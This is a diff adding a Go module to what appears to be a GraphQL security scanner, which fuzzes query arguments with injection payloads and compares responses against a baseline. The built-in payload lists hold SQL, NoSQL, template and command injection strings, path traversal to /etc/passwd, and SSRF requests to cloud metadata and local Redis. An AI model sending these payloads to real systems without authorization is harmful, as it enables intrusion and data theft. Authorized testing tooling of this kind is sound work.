@@ -0,0 +1,472 @@
+package analysis
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"regexp"
+	"sort"
+	"strings"
+	"time"
+
+	"github.com/0xDTC/0xGQLForge/internal/generator"
+	"github.com/0xDTC/0xGQLForge/internal/schema"
+	"github.com/0xDTC/0xGQLForge/internal/upstream"
+)
+
+// DefaultInjectionPayloads holds the built-in payload classes. A wordlist
+// named "injection:<class>" replaces the class of the same name or adds a new
+// one.
+var DefaultInjectionPayloads = map[string][]string{
+	"sqli": {
+		`'`, `' OR '1'='1`, `1' OR 1=1--`, `" OR ""="`, `' UNION SELECT NULL--`,
+		`1' AND SLEEP(5)--`, `'; SELECT pg_sleep(5)--`, `1); WAITFOR DELAY '0:0:5'--`,
+	},
+	"nosqli": {
+		`{"$ne": null}`, `{"$gt": ""}`, `{"$regex": ".*"}`,
+		`' || '1'=='1`, `'; return true; var x='`, `{"$where": "sleep(5000)"}`,
+	},
+	"ssti": {
+		`{{1337*1337}}`, `${1337*1337}`, `<%= 1337*1337 %>`, `#{1337*1337}`, `{{7*'7'}}`, `{{config}}`,
+	},
+	"path_traversal": {
+		`../../../../../../etc/passwd`, `..%2f..%2f..%2f..%2f..%2fetc%2fpasswd`,
+		`....//....//....//....//etc/passwd`, `..\..\..\..\windows\win.ini`, `/etc/passwd`,
+	},
+	"ssrf": {
+		`http://169.254.169.254/latest/meta-data/`, `http://127.0.0.1/`, `http://localhost:6379/`,
+		`http://[::1]/`, `file:///etc/passwd`, `gopher://127.0.0.1:6379/_INFO`,
+	},
+	"cmdi": {
+		`;id`, `|id`, `$(id)`, "`id`", `& whoami`, `;sleep 5`, `| sleep 5`,
+	},
+	"oversized": {
+		strings.Repeat("A", 10_000), strings.Repeat("A", 100_000),
+	},
+	"unicode": {
+		"\u0000", "\u202etest", "\uffff\ufffe", "\u02bc OR \u02bc1\u02bc=\u02bc1", "\uff0527",
+		"\U0001F600\U0001F4A5" + strings.Repeat("\u0301", 64), "\xed\xa0\x80",
+	},
+}
+
+// injectionSignatures match response text that leaks a backend failure.
+// A signature only counts when the baseline response doesn't match it and
+// the matched text isn't an echo of the payload.
+var injectionSignatures = []struct {
+	name string
+	re   *regexp.Regexp
+}{
+	{"sql", regexp.MustCompile(`(?i)SQL syntax|SQLSTATE|ORA-\d{5}|PG::\w+|syntax error at or near|unterminated quoted string|unclosed quotation mark|SQLite3?::|sqlite3?\.\w+Error|MySQL|MariaDB|ODBC|JDBC|SequelizeDatabaseError|QueryFailedError|PrismaClient\w*Error`)},
+	{"nosql", regexp.MustCompile(`(?i)MongoError|MongoServerError|CastError|BSON|E11000|unknown operator|MongooseError|\$where`)},
+	{"template", regexp.MustCompile(`1787569|(?i)TemplateSyntaxError|jinja2|Twig_Error|freemarker|Liquid error|Handlebars|<Config \{`)},
+	{"file", regexp.MustCompile(`root:x:0:0|\[fonts\]|\[extensions\]|No such file or directory|ENOENT|EACCES`)},
+	{"command", regexp.MustCompile(`uid=\d+\(\w+\) gid=|sh: \d+: |command not found`)},
+	{"ssrf", regexp.MustCompile(`(?i)ami-id|instance-id|ECONNREFUSED|connection refused|getaddrinfo|EHOSTUNREACH|redis_version`)},
+	{"stack", regexp.MustCompile(`Traceback \(most recent call last\)|at [\w$.<>]+ \([\w./\\-]+:\d+:\d+\)|\.java:\d+\)|NullPointerException|panic: |goroutine \d+ \[`)},
+}
+
+const (
+	defaultInjectionMaxRequests = 1000
+	injectionTimeout            = 20 * time.Second
+	injectionTimingDelta        = 4 * time.Second // time-based payloads sleep 5s
+)
+
+// InjectionOptions configures FuzzInjection.
+type InjectionOptions struct {
+	Target Target
+	Schema *schema.Schema
+	// Operations restricts the run to "kind name" keys, e.g. "query user".
+	// Empty fuzzes every query, plus mutations when IncludeMutations is set.
+	Operations []string
+	// IncludeMutations fuzzes mutations, which execute for real.
+	IncludeMutations bool
+	// Payloads maps class to payloads; nil uses DefaultInjectionPayloads.
+	Payloads map[string][]string
+	// Classes restricts the run to some payload classes; empty runs all.
+	Classes []string
+	// MaxRequests bounds the number of requests sent. Zero means 1000.
+	MaxRequests int
+	// Upstream controls how requests reach the target.
+	Upstream upstream.Config
+}
+
+// InjectionReport is the outcome of FuzzInjection. Findings holds only
+// payloads whose response deviated from the operation's baseline.
+type InjectionReport struct {
+	Findings   []schema.InjectionFinding `json:"findings"`
+	Operations int                       `json:"operations"`
+	Arguments  int                       `json:"arguments"`
+	Requests   int                       `json:"requests"`
+	Truncated  bool                      `json:"truncated,omitempty"`
+}
+
+// injectionTarget is a String, ID, or JSON leaf inside an operation's
+// variables.
+type injectionTarget struct {
+	path     []any
+	label    string
+	typeName string
+}
+
+// injectionResponse is what the fuzzer measures for each request.
+type injectionResponse struct {
+	status   int
+	duration time.Duration
+	body     []byte
+	hasData  bool
+}
+
+// FuzzInjection generates each selected operation with GenerateQuery, fills
+// its variables with benign values, and sends one request per payload with
+// a single String, ID, or JSON argument replaced. Responses are compared with
+// a benign baseline for error signatures, status codes, timing, and size.
+func FuzzInjection(opts InjectionOptions) (*InjectionReport, error) {
+	if err := opts.Target.Validate(); err != nil {
+		return nil, err
+	}
+	if opts.Schema == nil {
+		return nil, fmt.Errorf("a schema is required")
+	}
+	if opts.Payloads == nil {
+		opts.Payloads = DefaultInjectionPayloads
+	}
+	if opts.MaxRequests <= 0 {
+		opts.MaxRequests = defaultInjectionMaxRequests
+	}
+
+	classes := opts.Classes
+	if len(classes) == 0 {
+		for class := range opts.Payloads {
+			classes = append(classes, class)
+		}
+		sort.Strings(classes)
+	}
+	for _, class := range classes {
+		if _, ok := opts.Payloads[class]; !ok {
+			return nil, fmt.Errorf("unknown payload class %q", class)
+		}
+	}
+
+	wanted := make(map[string]bool, len(opts.Operations))
+	for _, key := range opts.Operations {
+		wanted[key] = true
+	}
+
+	index := make(map[string]*schema.Type, len(opts.Schema.Types))
+	for i := range opts.Schema.Types {
+		index[opts.Schema.Types[i].Name] = &opts.Schema.Types[i]
+	}
+
+	cfg := opts.Upstream
+	cfg.Timeout = injectionTimeout
+	client := upstream.NewClient(cfg)
+	report := &InjectionReport{Findings: []schema.InjectionFinding{}}
+
+	for _, op := range schema.GetOperations(opts.Schema) {
+		key := op.Kind + " " + op.Name
+		switch {
+		case len(wanted) > 0:
+			if !wanted[key] {
+				continue
+			}
+		case op.Kind == "subscription", op.Kind == "mutation" && !opts.IncludeMutations:
+			continue
+		}
+
+		query, vars := generator.GenerateQuery(opts.Schema, op.Name, op.Kind, generator.DefaultConfig())
+		if query == "" {
+			continue
+		}
+		var targets []injectionTarget
+		for _, arg := range op.Args {
+			vars[arg.Name] = benignValue(index, arg.Type, arg.Name, 0)
+			collectInjectionTargets(index, arg.Type, []any{arg.Name}, arg.Name, 0, &targets)
+		}
+		if len(targets) == 0 {
+			continue
+		}
+		report.Operations++
+		report.Arguments += len(targets)
+
+		if report.Requests+2 > opts.MaxRequests {
+			report.Truncated = true
+			break
+		}
+		baseline, err := injectionBaseline(client, opts.Target, op.Name, query, vars)
+		report.Requests += 2
+		if err != nil {
+			continue // unreachable operation; nothing to compare against
+		}
+
+		for _, t := range targets {
+			for _, class := range classes {
+				for _, payload := range opts.Payloads[class] {
+					if report.Requests >= opts.MaxRequests {
+						report.Truncated = true
+						return report, nil
+					}
+					report.Requests++
+					value := injectionValue(t, payload)
+					resp, err := sendInjection(client, opts.Target, op.Name, query, withValue(vars, t.path, value))
+					if err != nil {
+						continue
+					}
+					anomalies, evidence := injectionAnomalies(baseline, resp, payload)
+					if len(anomalies) == 0 {
+						continue
+					}
+					report.Findings = append(report.Findings, schema.InjectionFinding{
+						Operation:      op.Name,
+						Kind:           op.Kind,
+						Argument:       t.label,
+						ArgType:        t.typeName,
+						PayloadClass:   class,
+						Payload:        truncate(payload, 500),
+						Anomalies:      anomalies,
+						StatusCode:     resp.status,
+						DurationMs:     resp.duration.Milliseconds(),
+						ResponseSize:   len(resp.body),
+						BaselineStatus: baseline.status,
+						BaselineMs:     baseline.duration.Milliseconds(),
+						BaselineSize:   len(baseline.body),
+						Evidence:       evidence,
+					})
+				}
+			}
+		}
+	}
+	return report, nil
+}
+
+// injectionBaseline sends the benign request twice and keeps the slower
+// timing, so ordinary jitter isn't mistaken for a time-based injection.
+func injectionBaseline(client *http.Client, target Target, opName, query string, vars map[string]any) (*injectionResponse, error) {
+	first, err := sendInjection(client, target, opName, query, vars)
+	if err != nil {
+		return nil, err
+	}
+	second, err := sendInjection(client, target, opName, query, vars)
+	if err == nil && second.duration > first.duration {
+		first.duration = second.duration
+	}
+	return first, nil
+}
+
+func sendInjection(client *http.Client, target Target, opName, query string, vars map[string]any) (*injectionResponse, error) {
+	payload, err := json.Marshal(map[string]any{"query": query, "operationName": opName, "variables": vars})
+	if err != nil {
+		return nil, err
+	}
+	req, err := target.NewRequest(payload)
+	if err != nil {
+		return nil, err
+	}
+	start := time.Now()
+	resp, err := client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20)) // 1MB limit
+	if err != nil {
+		return nil, err
+	}
+	var gql struct {
+		Data json.RawMessage `json:"data"`
+	}
+	json.Unmarshal(body, &gql) //nolint:errcheck
+	return &injectionResponse{
+		status:   resp.StatusCode,
+		duration: time.Since(start),
+		body:     body,
+		hasData:  dataPresent(gql.Data),
+	}, nil
+}
+
+// injectionAnomalies compares a payload response with the baseline.
+func injectionAnomalies(base, resp *injectionResponse, payload string) ([]string, string) {
+	var anomalies, evidence []string
+	for _, sig := range injectionSignatures {
+		loc := sig.re.FindIndex(resp.body)
+		if loc == nil || sig.re.Match(base.body) {
+			continue
+		}
+		match := string(resp.body[loc[0]:loc[1]])
+		if strings.Contains(payload, match) {
+			continue // the server echoed the payload back
+		}
+		anomalies = append(anomalies, "signature:"+sig.name)
+		evidence = append(evidence, excerpt(resp.body, loc[0], loc[1]))
+	}
+	if resp.status >= 500 && base.status < 500 {
+		anomalies = append(anomalies, "status")
+		evidence = append(evidence, fmt.Sprintf("HTTP %d (baseline %d)", resp.status, base.status))
+	}
+	if resp.duration >= base.duration+injectionTimingDelta && resp.duration >= 3*base.duration {
+		anomalies = append(anomalies, "timing")
+		evidence = append(evidence, fmt.Sprintf("%dms (baseline %dms)", resp.duration.Milliseconds(), base.duration.Milliseconds()))
+	}
+	// Payloads echoed back in the data don't count towards the size change.
+	delta := len(resp.body) - len(base.body) - strings.Count(string(resp.body), payload)*len(payload)
+	if resp.hasData && (!base.hasData || (abs(delta) > 200 && abs(delta) > len(base.body)/2)) {
+		anomalies = append(anomalies, "size")
+		evidence = append(evidence, fmt.Sprintf("%d bytes of data (baseline %d bytes)", len(resp.body), len(base.body)))
+	}
+	return anomalies, strings.Join(evidence, "; ")
+}
+
+// excerpt returns the match at body[start:end] with some surrounding text.
+func excerpt(body []byte, start, end int) string {
+	from := max(start-80, 0)
+	to := min(end+80, len(body))
+	return strings.TrimSpace(string(body[from:to]))
+}
+
+func abs(n int) int {
+	if n < 0 {
+		return -n
+	}
+	return n
+}
+
+// injectionValue turns a payload into the value sent for t. JSON arguments
+// take payloads that parse as JSON (such as NoSQL operators) as objects.
+func injectionValue(t injectionTarget, payload string) any {
+	if isJSONScalar(t.typeName) {
+		var v any
+		if json.Unmarshal([]byte(payload), &v) == nil {
+			return v
+		}
+	}
+	return payload
+}
+
+// withValue returns a deep copy of vars with the value at path replaced.
+func withValue(vars map[string]any, path []any, value any) map[string]any {
+	raw, _ := json.Marshal(vars)
+	var copied map[string]any
+	json.Unmarshal(raw, &copied) //nolint:errcheck
+	setAtPath(copied, path, value)
+	return copied
+}
+
+// collectInjectionTargets walks an argument's type, mirroring benignValue,
+// and records the path of every String, ID, and JSON leaf.
+func collectInjectionTargets(index map[string]*schema.Type, ref schema.TypeRef, path []any, label string, depth int, out *[]injectionTarget) {
+	switch ref.Kind {
+	case schema.KindNonNull:
+		if ref.OfType != nil {
+			collectInjectionTargets(index, *ref.OfType, path, label, depth, out)
+		}
+		return
+	case schema.KindList:
+		if ref.OfType != nil {
+			collectInjectionTargets(index, *ref.OfType, appendPath(path, 0), label+"[0]", depth, out)
+		}
+		return
+	}
+
+	name := ref.BaseName()
+	switch {
+	case name == "String" || name == "ID" || isJSONScalar(name):
+		*out = append(*out, injectionTarget{path: path, label: label, typeName: name})
+	case index[name] != nil && index[name].Kind == schema.KindInputObject && depth < 3:
+		for _, f := range inputFieldsToFill(index[name], depth) {
+			collectInjectionTargets(index, f.Type, appendPath(path, f.Name), label+"."+f.Name, depth+1, out)
+		}
+	}
+}
+
+// benignValue returns an ordinary value of the given type, expanding input
+// objects (all fields near the top, required ones deeper down) and picking
+// the first value of enums.
+func benignValue(index map[string]*schema.Type, ref schema.TypeRef, hint string, depth int) any {
+	switch ref.Kind {
+	case schema.KindNonNull:
+		if ref.OfType != nil {
+			return benignValue(index, *ref.OfType, hint, depth)
+		}
+		return nil
+	case schema.KindList:
+		if ref.OfType != nil {
+			return []any{benignValue(index, *ref.OfType, hint, depth)}
+		}
+		return []any{}
+	}
+
+	name := ref.BaseName()
+	switch name {
+	case "String":
+		if strings.Contains(strings.ToLower(hint), "email") {
+			return "user@example.com"
+		}
+		return "test"
+	case "ID":
+		return "1"
+	case "Int":
+		return 1
+	case "Float":
+		return 1.0
+	case "Boolean":
+		return true
+	}
+	if isJSONScalar(name) {
+		return map[string]any{"key": "value"}
+	}
+	t := index[name]
+	if t == nil {
+		return "test"
+	}
+	switch t.Kind {
+	case schema.KindEnum:
+		if len(t.EnumValues) > 0 {
+			return t.EnumValues[0].Name
+		}
+	case schema.KindInputObject:
+		obj := map[string]any{}
+		if depth < 3 {
+			for _, f := range inputFieldsToFill(t, depth) {
+				obj[f.Name] = benignValue(index, f.Type, f.Name, depth+1)
+			}
+		}
+		return obj
+	}
+	return "test"
+}
+
+// inputFieldsToFill returns the input fields benignValue sets: all of them
+// for the top two levels, only required ones below.
+func inputFieldsToFill(t *schema.Type, depth int) []schema.Field {
+	if depth < 2 {
+		return t.InputFields
+	}
+	var required []schema.Field
+	for _, f := range t.InputFields {
+		if f.Type.IsNonNull() && f.DefaultValue == nil {
+			required = append(required, f)
+		}
+	}
+	return required
+}
+
+// isJSONScalar reports whether a custom scalar carries arbitrary JSON.
+func isJSONScalar(name string) bool {
+	upper := strings.ToUpper(name)
+	return strings.Contains(upper, "JSON") || upper == "ANY" || upper == "OBJECT"
+}
+
+// MergePayloads returns the built-in payload classes with custom classes
+// added and same-named ones replaced.
+func MergePayloads(custom map[string][]string) map[string][]string {
+	merged := make(map[string][]string, len(DefaultInjectionPayloads)+len(custom))
+	for class, payloads := range DefaultInjectionPayloads {
+		merged[class] = payloads
+	}
+	for class, payloads := range custom {
+		if len(payloads) > 0 {
+			merged[class] = payloads
+		}
+	}
+	return merged
+}